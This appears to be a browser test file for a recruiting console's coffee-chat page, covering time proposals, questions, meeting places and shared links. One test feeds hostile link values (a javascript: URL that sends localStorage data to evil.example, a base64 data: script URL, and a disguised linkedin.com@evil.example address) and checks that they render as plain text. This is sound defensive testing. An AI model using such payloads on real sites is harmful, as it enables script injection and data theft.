import { toast } from '@coffeeattack/kit/testing/toast'
import { expectAccessible } from '@coffeeattack/ui/testing/accessible'
import { describe, expect } from 'vitest'
import { page } from 'vitest/browser'
import { COFFEECHAT, coffeechat, listed } from '../testing/samples/coffeechats.ts'
import { sampleId } from '../testing/samples/ids.ts'
import { test } from '../testing/screen-test.tsx'

/** A coffee chat of the company: times, questions and disclosure (TRUST-4, OFR-11, OFR-13). */

const STARTS = ['2026-11-16T14:00:00+09:00', '2026-11-16T15:30:00+09:00']
const times = STARTS.map((startsAt, place) => ({
  id: sampleId(311 + place),
  startsAt,
  minutes: 30,
  proposedBy: 'company' as const,
  canConfirm: false,
  isTaken: false,
}))

test('[VAL-8] links open in a new tab, and an invalid address is plain text', async ({ api, open }) => {
  const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
  const pretending = 'https://linkedin.com@evil.example/in/gaon'
  const page64 = 'data:text/html;base64,PHNjcmlwdD4='
  api.answers(
    'GET /console/coffeechats/:id',
    coffeechat({
      disclosure: [
        { kind: 'GITHUB', text: 'https://github.com/gaon', url: 'https://github.com/gaon' },
        { kind: 'RESUME_LINK', text: script, url: script },
        { kind: 'PORTFOLIO_LINK', text: page64, url: page64 },
        { kind: 'LINKEDIN', text: pretending, url: pretending },
      ],
    }),
  )
  await open(`/coffeechats/${COFFEECHAT}`)
  const shared = page.getByRole('region', { name: '연락처와 자료' })
  await expect.poll(() => document.title).toBe('노가온 · 커피챗 · 커피어택')
  for (const text of [script, page64, pretending]) await expect.element(shared.getByText(text)).toBeVisible()
  await expect.element(shared.getByRole('link')).toHaveLength(1)
  await expect.element(shared.getByRole('link')).toHaveAttribute('href', 'https://github.com/gaon')
  await expect.element(shared.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
})

test('[OFR-18] contacts from before the match stand under one row that says how many they are', async ({
  api,
  open,
}) => {
  const asked = ['010-2222-3333', 'gaon@example.com', 'https://gaon.example/cv'].map((text) => ({
    kind: 'ASKED_CONTACT' as const,
    text,
    url: null,
  }))
  const disclosure = [{ kind: 'NAME' as const, text: '노가온', url: null }, ...asked]
  api.answers('GET /console/coffeechats/:id', coffeechat({ disclosure }))
  await open(`/coffeechats/${COFFEECHAT}`)
  const shared = page.getByRole('region', { name: '연락처와 자료' })
  const texts = (role: 'term' | 'definition') =>
    shared
      .getByRole(role)
      .elements()
      .map(({ textContent }) => textContent)
  await expect.poll(() => texts('term')).toEqual(['이름', '이름 없이 물을 때 적은 연락처 3개'])
  expect(texts('definition')).toEqual(['노가온', ...asked.map(({ text }) => text)])
  await expect.element(shared.getByRole('link')).not.toBeInTheDocument()
})

test('[TRUST-4] up to five times are proposed', async ({ api, open }) => {
  api.answers('GET /console/coffeechats/:id', coffeechat())
  api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
  await open(`/coffeechats/${COFFEECHAT}`)
  await page.getByRole('button', { name: '시간 제안하기' }).click()
  await expect.element(page.getByRole('button', { name: '시간을 골라 주세요' })).toBeDisabled()
  await page.getByRole('combobox', { name: '날짜' }).selectOptions('11월 16일 (월)')
  const start = (text: string) => page.getByRole('button', { name: text })
  for (const text of ['10:00', '11:00', '13:00', '15:30', '14:00']) await start(text).click()
  await expect.element(start('16:00')).toBeDisabled()
  await expectAccessible()
  for (const text of ['10:00', '11:00', '13:00']) await start(text).click()
  await page.getByRole('button', { name: '시간 2개 제안하기' }).click()
  await expect.element(toast('시간을 제안했어요')).toBeVisible()
  await expect
    .element(page.getByRole('list', { name: '우리가 제안한 시간' }).getByRole('listitem'))
    .toHaveLength(2)
  expect(api.sent('POST /console/coffeechats/:id/times').map(({ body }) => body.startItems)).toEqual([
    STARTS.map((start) => new Date(start).toISOString()),
  ])
})

test('[TRUST-4] times are proposed once after a lost answer; other times are a new proposal', async ({
  api,
  open,
}) => {
  api.answers('GET /console/coffeechats/:id', coffeechat())
  api.loses('POST /console/coffeechats/:id/times')
  await open(`/coffeechats/${COFFEECHAT}`)
  const told = page.getByRole('alertdialog', { name: '인터넷에 연결되어 있지 않아요' })
  await page.getByRole('button', { name: '시간 제안하기' }).click()
  await page.getByRole('button', { name: '14:00' }).click()
  await page.getByRole('button', { name: '시간 1개 제안하기' }).click()
  await told.getByRole('button', { name: '닫기' }).click()
  await page.getByRole('button', { name: '시간 1개 제안하기' }).click()
  await told.getByRole('button', { name: '닫기' }).click()
  await page.getByRole('button', { name: '15:30' }).click()
  await page.getByRole('button', { name: '시간 2개 제안하기' }).click()
  await expect.element(told).toBeVisible()
  const [first, again, other] = api
    .sent('POST /console/coffeechats/:id/times')
    .map(({ idempotencyKey }) => idempotencyKey)
  expect(first).toBeTruthy()
  expect(again).toBe(first)
  expect(other).not.toBe(first)
})

test('[TRUST-4] the picker has the candidate’s hours: today, weekends, from seven to ten', async ({
  api,
  open,
}) => {
  const meetingItems = [{ startsAt: '2026-11-16T14:00:00+09:00', minutes: 30 }]
  api.answers('GET /console/coffeechats/:id', coffeechat({ meetingItems }))
  api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
  await open(`/coffeechats/${COFFEECHAT}`)
  await page.getByRole('button', { name: '시간 제안하기' }).click()
  const day = page.getByRole('combobox', { name: '날짜' })
  const days = () =>
    [...(day.element() as HTMLSelectElement).options].map(({ textContent }) => textContent ?? '')
  expect(days()[0]).toMatch(/11월 15일 \(일\)/)
  expect(days().some((text) => text.includes('(토)'))).toBe(true)
  await day.selectOptions('11월 16일 (월)')
  const starts = page.getByRole('group', { name: /시작 시간/ }).getByRole('button')
  await expect.element(starts.first()).toHaveTextContent('07:00')
  await expect.element(starts.last()).toHaveTextContent('21:30')
  await starts.filter({ hasText: '14:00' }).click()
  await expect.element(page.getByText('점이 있는 시간에는 이미 다른 커피챗이 있어요.')).toBeVisible()
  await expectAccessible()
  await page.getByRole('button', { name: '시간 1개 제안하기' }).click()
  const question = page.getByRole('dialog', { name: '그 시간에 다른 커피챗이 있어요' })
  await expect.element(question).toMatchTextContent('11월 16일 (월) 오후 2:00에 다른 후보자와 만나요.')
  await question.getByRole('button', { name: '그래도 제안하기' }).click()
  await expect.element(toast('시간을 제안했어요')).toBeVisible()
  expect(api.sent('POST /console/coffeechats/:id/times').map(({ body }) => body.overlaps)).toEqual([true])
})

test('[TRUST-4] proposed times can be taken back, and a fixed time stands while others are proposed', async ({
  api,
  open,
}) => {
  const confirmedTime = {
    id: sampleId(310),
    startsAt: '2026-11-17T10:00:00+09:00',
    minutes: 30,
    proposedBy: 'candidate',
  } as const
  const fixed = { status: 'CONFIRMED', confirmedTime, todo: null } as const
  api.answers('GET /console/coffeechats/:id', coffeechat({ ...fixed, timeItems: times }))
  api.answers('DELETE /console/coffeechats/:id/times', coffeechat(fixed))
  await open(`/coffeechats/${COFFEECHAT}`)
  const card = page.getByRole('region', { name: '이때 만나요' })
  await expect.element(card).toMatchTextContent('11월 17일 (화) 오전 10:00')
  await expect.element(card).toMatchTextContent('정한 시간 그대로예요')
  await expectAccessible()
  await card.getByRole('button', { name: '제안한 시간 거두기' }).click()
  await page.getByRole('dialog').getByRole('button', { name: '거두기' }).click()
  await expect.element(toast('제안한 시간을 거뒀어요')).toBeVisible()
  await expect.element(card.getByRole('button', { name: '시간 옮기기' })).toBeVisible()
})

test('[TRUST-4] one of the candidate’s times is accepted', async ({ api, open }) => {
  const [time] = times
  const theirs = { ...time!, proposedBy: 'candidate' as const, canConfirm: true }
  api.answers('GET /console/coffeechats/:id', coffeechat({ status: 'PROPOSED', timeItems: [theirs] }))
  const { canConfirm: _canConfirm, isTaken: _isTaken, ...confirmedTime } = theirs
  api.answers(
    'POST /console/coffeechats/:id/times/:timeId/confirm',
    coffeechat({ status: 'CONFIRMED', confirmedTime }),
  )
  await open(`/coffeechats/${COFFEECHAT}`)
  await page.getByRole('button', { name: '이 시간에 만나요' }).click()
  await expect.element(toast('만날 시간을 정했어요')).toBeVisible()
  await expect.element(page.getByRole('region', { name: '이때 만나요' })).toMatchTextContent('오후 2:00')
  expect(
    api.sent('POST /console/coffeechats/:id/times/:timeId/confirm').map(({ params }) => params.timeId),
  ).toEqual([theirs.id])
})

test('[OFR-11] questions are asked, and answered ones show the answer', async ({ api, open }) => {
  const question = '가장 아끼는 화면은 무엇인가요?'
  api.answers('GET /console/coffeechats/:id', coffeechat())
  const asked = coffeechat({ questions: [{ id: sampleId(321), question, answer: null }] })
  api.answers('POST /console/coffeechats/:id/questions', asked)
  await open(`/coffeechats/${COFFEECHAT}`)
  await page.getByRole('button', { name: '질문하기' }).click()
  await expect.element(page.getByRole('button', { name: '질문 보내기' })).toBeDisabled()
  await page.getByRole('textbox', { name: '질문 1' }).fill(question)
  await page.getByRole('button', { name: '질문 보내기' }).click()
  await expect.element(toast('질문을 보냈어요')).toBeVisible()
  await expect.element(page.getByText('아직 답하지 않았어요')).toBeVisible()
  expect(api.sent('POST /console/coffeechats/:id/questions').map(({ body }) => body)).toEqual([
    { items: [question] },
  ])
})

test('[OFR-11] a past coffee chat without questions does not mention them', async ({ api, open }) => {
  const over = coffeechat({ status: 'CANCELLED', name: '' })
  api.answers('GET /console/coffeechats/:id', over)
  await open(`/coffeechats/${COFFEECHAT}`)
  await expect.element(page.getByRole('heading', { name: '탈퇴한 후보자' })).toBeVisible()
  await expect.element(page.getByRole('heading', { name: '취소된 커피챗이에요' })).toBeVisible()
  await expect.element(page.getByRole('region', { name: '만나기 전에 물어본 것' })).not.toBeInTheDocument()
})

test('[PRO-14] leaving removes name and contact from the open page, and a past meeting stays', async ({
  api,
  open,
}) => {
  const candidateId = sampleId(7)
  api.answers('GET /console/coffeechats/:id', coffeechat({ candidateId, name: '노가온' }))
  await open(`/coffeechats/${COFFEECHAT}`)
  await expect.element(page.getByRole('heading', { name: '노가온' })).toBeVisible()
  const outcome = {
    startsAt: STARTS[0]!,
    minutes: 30,
    until: STARTS[1]!,
    canAnswer: false,
    said: 'MET' as const,
  }
  const hire = { startsOn: '2026-12-01', basePay: 6_700 }
  const hired = {
    stage: 'HIRED' as const,
    onDay: '2026-11-16',
    hire,
    isAgreed: true,
    candidateHire: null,
    isHire: true,
  }
  const gone = { name: '', disclosure: [], confirmedTime: null, timeItems: [], outcome, stageItems: [hired] }
  api.answers('GET /console/coffeechats/:id', coffeechat({ candidateId, status: 'DONE', ...gone }))
  const gate = api.holds('GET /console/coffeechats/:id')
  api.tells('GET /console/stream', { id: '1', name: 'left', data: { candidateId } })
  await expect.element(page.getByText('노가온')).not.toBeInTheDocument()
  gate.open()
  await expect.element(page.getByRole('heading', { name: '탈퇴한 후보자' })).toBeVisible()
  await expect.element(page.getByRole('heading', { name: '만났어요' })).toBeVisible()
  await expect.element(page.getByRole('region', { name: '채용이 확정됐어요' })).toBeVisible()
  await expect.element(page.getByText(/취소/)).not.toBeInTheDocument()
})

describe('[OFR-19] the place of the meeting', () => {
  const PLACE = 'PATCH /console/coffeechats/:id/place'
  const CAFE = { kind: 'ADDRESS', text: '서울 성동구 연무장길 7, 2층' } as const
  const CALL = { kind: 'LINK', text: 'https://meet.example.com/abc-defg' } as const
  const unplaced = page.getByRole('region', { name: '어디에서 만날까요?' })
  const placed = page.getByRole('region', { name: '여기서 만나요' })

  test('the usual place comes first and is set with one press', async ({ api, open }) => {
    api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
    api.answers(PLACE, coffeechat({ usualPlace: CAFE, place: CAFE }))
    await open(`/coffeechats/${COFFEECHAT}`)
    await expect.element(unplaced).toMatchTextContent(`늘 만나는 곳${CAFE.text}`)
    await expectAccessible()
    await unplaced.getByRole('button', { name: '여기로 정하기' }).click()
    await expect.element(toast('만나는 곳을 정했어요')).toBeVisible()
    await expect.element(placed).toMatchTextContent(CAFE.text)
    expect(api.sent(PLACE).map(({ body }) => body)).toEqual([{ place: CAFE, isUsual: false }])
  })

  test('another place is typed and saved as the usual one; problems are shown', async ({ api, open }) => {
    api.answers('GET /console/coffeechats/:id', coffeechat())
    api.answers(PLACE, coffeechat({ place: CALL }))
    await open(`/coffeechats/${COFFEECHAT}`)
    await unplaced.getByRole('button', { name: '만나는 곳 정하기' }).click()
    await unplaced.getByRole('button', { name: '여기로 정하기' }).click()
    await expect.element(page.getByText('만날 곳을 입력해 주세요')).toBeVisible()
    await unplaced.getByRole('radio', { name: '화상 링크' }).click({ force: true })
    await unplaced.getByLabelText('화상 회의 링크').fill('http://meet.example.com')
    await unplaced.getByRole('button', { name: '여기로 정하기' }).click()
    await expect.element(page.getByText('https://로 시작하는 링크를 입력해 주세요')).toBeVisible()
    await expectAccessible()
    await unplaced.getByLabelText('화상 회의 링크').fill(CALL.text)
    await unplaced.getByRole('checkbox', { name: '우리 회사가 늘 만나는 곳으로 남기기' }).click()
    await unplaced.getByRole('button', { name: '여기로 정하기' }).click()
    const link = placed.getByRole('link', { name: /meet\.example\.com/ })
    await expect.element(link).toHaveAttribute('href', CALL.text)
    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer')
    expect(api.sent(PLACE).map(({ body }) => body)).toEqual([{ place: CALL, isUsual: true }])
  })

  test('an agent has no usual place to keep', async ({ api, open }) => {
    api.answers('GET /console/coffeechats/:id', coffeechat({ place: CAFE }))
    await open(`/coffeechats/${COFFEECHAT}`, { as: 'agent' })
    await placed.getByRole('button', { name: '만나는 곳 바꾸기' }).click()
    await expect.element(placed.getByLabelText('만나는 주소')).toHaveValue(CAFE.text)
    await expect.element(placed.getByRole('checkbox')).not.toBeInTheDocument()
  })

  test('the list still shows the place of a meeting that is over, and its page drops it', async ({
    api,
    open,
  }) => {
    const confirmedTime = {
      id: sampleId(311),
      startsAt: '2026-11-15T11:00:00+09:00',
      minutes: 30,
      proposedBy: 'company',
    } as const
    const chat = coffeechat({ status: 'DONE', todo: null, confirmedTime, place: CALL })
    api.answers('GET /console/coffeechats', listed({ past: [chat] }))
    api.answers('GET /console/coffeechats/:id', chat)
    await open('/coffeechats')
    const past = page.getByRole('list', { name: '지난 커피챗' })
    await expect.element(past).toMatchTextContent('11월 15일 (일) 오전 11:00화상 · meet.example.com')
    await past.getByRole('link').first().click()
    await expect.element(page.getByRole('region', { name: '만나기로 한 시간이 지났어요' })).toBeVisible()
    await expect.element(placed).not.toBeInTheDocument()
  })

  test('a place of a meeting cancelled meanwhile is not set', async ({ api, open }) => {
    api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
    api.refuses(PLACE, 'CONFLICT')
    await open(`/coffeechats/${COFFEECHAT}`)
    await expect.element(unplaced).toBeVisible()
    api.answers('GET /console/coffeechats/:id', coffeechat({ status: 'CANCELLED' }))
    await unplaced.getByRole('button', { name: '여기로 정하기' }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: '새로 불러오기' }).click()
    await expect.element(page.getByRole('heading', { name: '취소된 커피챗이에요' })).toBeVisible()
    await expect.element(unplaced).not.toBeInTheDocument()
  })
})
